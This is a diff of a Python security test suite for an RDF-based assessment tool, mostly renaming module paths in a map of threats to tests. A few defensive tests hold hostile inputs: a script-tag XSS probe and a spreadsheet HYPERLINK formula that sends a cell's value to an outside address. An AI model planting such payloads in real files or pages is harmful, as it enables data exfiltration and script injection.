@@ -38,15 +38,15 @@ COVERED = {
     "reading the web or local files through a query": (
         "rdf/test_store.py::test_service_is_refused_and_calls_nobody",
         "rdf/test_store.py::test_from_fetches_nothing",
-        "serve/test_fetching.py::test_no_spelling_of_service_calls_anybody",
-        "serve/test_fetching.py::test_no_update_fetches_anything",
-        "serve/test_fetching.py::test_parameters_name_stored_graphs_only",
-        "serve/test_limits.py::test_a_worker_can_open_nothing",
+        "server/test_fetching.py::test_no_spelling_of_service_calls_anybody",
+        "server/test_fetching.py::test_no_update_fetches_anything",
+        "server/test_fetching.py::test_parameters_name_stored_graphs_only",
+        "server/test_limits.py::test_a_worker_can_open_nothing",
     ),
     "the same through JSON-LD": (
         "rdf/test_contexts.py::test_any_other_context_is_refused_and_not_fetched",
         "rdf/test_contexts.py::test_a_context_behind_escapes_is_not_fetched",
-        "serve/test_graphs.py::test_a_context_from_the_web_is_not_fetched",
+        "server/test_graphs.py::test_a_context_from_the_web_is_not_fetched",
     ),
     "the same through shapes": (
         "test_threats.py::test_shapes_import_nothing",
@@ -55,26 +55,26 @@ COVERED = {
     "XML bombs, XXE": (
         "rdf/test_reading.py::test_a_doctype_is_refused_before_any_rdf_parser_sees_it",
         "rdf/test_reading.py::test_xml_in_other_encodings_is_refused",
-        "serve/test_graphs.py::test_bombs_are_a_clean_400",
-        "sheets/test_hostile.py::test_refused_in_one_line",
+        "server/test_graphs.py::test_bombs_are_a_clean_400",
+        "spreadsheets/test_hostile.py::test_refused_in_one_line",
     ),
     "nesting, number and literal bombs": (
         "rdf/test_reading.py::test_deep_json_is_refused",
         "rdf/test_reading.py::test_deep_rdf_xml_is_refused",
         "rdf/test_reading.py::test_long_numbers_stay_what_they_are",
-        "serve/test_limits.py::test_nesting_is_a_clean_400",
-        "serve/test_limits.py::test_bodies_are_limited",
+        "server/test_limits.py::test_nesting_is_a_clean_400",
+        "server/test_limits.py::test_bodies_are_limited",
     ),
     "runaway queries": (
-        "serve/test_limits.py::test_too_much_is_refused_and_the_server_goes_on",
-        "serve/test_limits.py::test_updates_have_limits_too",
-        "serve/test_turns.py::test_a_client_with_runaway_queries_does_not_starve_the_others",
-        "serve/test_orphans.py::test_all_processes_are_gone_soon_after_one_is_killed",
+        "server/test_limits.py::test_too_much_is_refused_and_the_server_goes_on",
+        "server/test_limits.py::test_updates_have_limits_too",
+        "server/test_turns.py::test_a_client_with_runaway_queries_does_not_starve_the_others",
+        "server/test_orphans.py::test_all_processes_are_gone_soon_after_one_is_killed",
     ),
     "regular-expression bombs": (
-        "serve/test_limits.py::test_regular_expressions_take_no_longer_for_being_nested",
-        "serve/test_hostile.py::test_reading_takes_time_in_proportion_to_the_length",
-        "serve/test_hostile.py::test_whoever_lacks_the_token_is_told_so_and_everybody_else_is_answered",
+        "server/test_limits.py::test_regular_expressions_take_no_longer_for_being_nested",
+        "server/test_hostile.py::test_reading_takes_time_in_proportion_to_the_length",
+        "server/test_hostile.py::test_whoever_lacks_the_token_is_told_so_and_everybody_else_is_answered",
         "shapes/test_style.py::test_nested_quantifiers_are_told_from_harmless_ones",
     ),
     "faking conformance": ("profiles/test_guard.py::test_refused_and_named",),
@@ -84,14 +84,14 @@ COVERED = {
         "rdf/test_store.py::test_a_failing_evaluation_is_an_engine_error",
     ),
     "stored cross-site scripting": (
-        "pages/test_pages.py::test_hostile_texts_and_addresses_stay_texts",
-        "report/test_safety.py::test_hostile_words_are_only_words",
-        "serve/test_privacy.py::test_security_headers_are_everywhere",
+        "site/test_pages.py::test_hostile_texts_and_addresses_stay_texts",
+        "reports/test_safety.py::test_hostile_words_are_only_words",
+        "server/test_privacy.py::test_security_headers_are_everywhere",
         "browser/test_editor.py::test_a_hostile_answer_is_only_text",
     ),
     "cross-site requests": (
-        "serve/test_privacy.py::test_no_page_elsewhere_writes_with_the_access_of_the_browser",
-        "serve/test_privacy.py::test_pages_elsewhere_neither_write_nor_read_what_is_private",
+        "server/test_privacy.py::test_no_page_elsewhere_writes_with_the_access_of_the_browser",
+        "server/test_privacy.py::test_pages_elsewhere_neither_write_nor_read_what_is_private",
         "browser/test_elsewhere.py::test_a_form_of_another_origin_writes_nothing",
     ),
     "credentials leaking": (
@@ -103,19 +103,19 @@ COVERED = {
         "test_threats.py::test_a_password_goes_to_one_server_only",
     ),
     "spreadsheets": (
-        "sheets/test_hostile.py::test_a_zip_bomb_is_refused_by_what_it_says_it_is",
-        "sheets/test_hostile.py::test_limits",
+        "spreadsheets/test_hostile.py::test_a_zip_bomb_is_refused_by_what_it_says_it_is",
+        "spreadsheets/test_hostile.py::test_limits",
         "test_threats.py::test_no_cell_is_a_formula",
     ),
     "personal data": (
-        "serve/test_privacy.py::test_nothing_of_a_career_is_found_anywhere",
-        "serve/test_privacy.py::test_profiles_are_shown_to_who_has_the_token",
-        "serve/test_privacy.py::test_a_person_is_erased_by_dropping_the_graph",
-        "serve/test_privacy.py::test_processes_that_answer_anonymously_have_never_seen_a_profile",
-        "serve/test_privacy.py::test_no_worker_keeps_a_profile_that_it_judged",
-        "serve/test_forgetting.py::test_nothing_of_a_profile_can_be_reached_once_it_is_answered",
-        "serve/test_store_on_disk.py::test_what_was_erased_is_in_no_file_after_the_next_start",
-        "serve/test_command.py::test_what_it_refuses",
+        "server/test_privacy.py::test_nothing_of_a_career_is_found_anywhere",
+        "server/test_privacy.py::test_profiles_are_shown_to_who_has_the_token",
+        "server/test_privacy.py::test_a_person_is_erased_by_dropping_the_graph",
+        "server/test_privacy.py::test_processes_that_answer_anonymously_have_never_seen_a_profile",
+        "server/test_privacy.py::test_no_worker_keeps_a_profile_that_it_judged",
+        "server/test_forgetting.py::test_nothing_of_a_profile_can_be_reached_once_it_is_answered",
+        "server/test_store_on_disk.py::test_what_was_erased_is_in_no_file_after_the_next_start",
+        "server/test_command.py::test_what_it_refuses",
     ),
 }
 
@@ -169,7 +169,7 @@ def test_json_ld_reads_the_web(listener) -> None:
 def test_shapes_import_nothing(listener, monkeypatch) -> None:
     import pyshacl
 
-    from itss_graph.assess.engines import PyShacl
+    from itss_graph.assessment.engines import PyShacl
 
     url, seen = listener
     shapes = f"<urn:o> a <http://www.w3.org/2002/07/owl#Ontology> ; <http://www.w3.org/2002/07/owl#imports> <{url}s> ."
@@ -245,7 +245,7 @@ TENURE = """
 
 def test_a_profile_helps_itself(monkeypatch) -> None:
     """One day is short; with nobody to refuse it, a tenure that the profile states itself makes up for it."""
-    from itss_graph.assess import assessor
+    from itss_graph.assessment import assessor
 
     honest = resources.path("data", "examples", "one-day-short.ttl").read_bytes()
     requirement = "OperationsManagement-L4-responsibility"
@@ -269,7 +269,7 @@ def test_a_failure_of_the_engine_is_no_verdict(monkeypatch) -> None:
     import pyshacl
     from pyshacl.errors import ValidationFailure
 
-    from itss_graph.assess.engines import PyShacl
+    from itss_graph.assessment.engines import PyShacl
 
     data = read(b"<urn:a> <urn:p> 'x' .", format="turtle")
     with pytest.raises(EngineError) as error:
@@ -287,7 +287,7 @@ def test_a_failure_of_the_engine_is_no_verdict(monkeypatch) -> None:
 def test_a_page_runs_what_a_label_says(tmp_path, monkeypatch) -> None:
     import jinja2
 
-    from itss_graph.pages.pages import Pages
+    from itss_graph.site.pages import Pages
 
     attack = "<script>alert(1)</script>"
     file = tmp_path / "hostile.ttl"
@@ -340,9 +340,9 @@ def other():
 
 
 def test_a_password_goes_to_one_server_only(other, monkeypatch) -> None:
-    from itss_graph.rdf import exchange
+    from itss_graph.rdf import transport
     from itss_graph.rdf.credentials import Credentials
-    from itss_graph.rdf.remote import Endpoint
+    from itss_graph.rdf.endpoint import Endpoint
 
     url, kept = other
     endpoint = Endpoint(url, credentials=Credentials("alice", "secret"), seconds=10)
@@ -350,7 +350,7 @@ def test_a_password_goes_to_one_server_only(other, monkeypatch) -> None:
         endpoint.query("ASK {}")
     assert "secret" not in str(error.value)
     assert kept == []
-    monkeypatch.setattr(exchange, "_NoRedirect", HTTPRedirectHandler)
+    monkeypatch.setattr(transport, "_NoRedirect", HTTPRedirectHandler)
     with pytest.raises(EngineError, match="answers 404"):
         endpoint.query("ASK {}")
     assert kept == ["Basic YWxpY2U6c2VjcmV0"], "the library forwards it"
@@ -366,7 +366,7 @@ def test_a_trickled_answer_outlives_a_timeout(other) -> None:
 
 
 def test_no_cell_is_a_formula(monkeypatch) -> None:
-    from itss_graph.report import rows
+    from itss_graph.reports import rows
 
     attack = '=HYPERLINK("http://192.0.2.1/?"&A1)'
     table = pl.DataFrame({"x": [attack, "+1", "-1", "@x", "\tx", "\rx", "plain"]})
@@ -388,7 +388,7 @@ def test_a_log_tells_a_value(caplog) -> None:
 
 
 def test_a_log_line_quotes_an_exception() -> None:
-    from itss_graph.serve.telemetry import Lines
+    from itss_graph.server.middleware.telemetry import Lines
 
     try:
         int("canary")
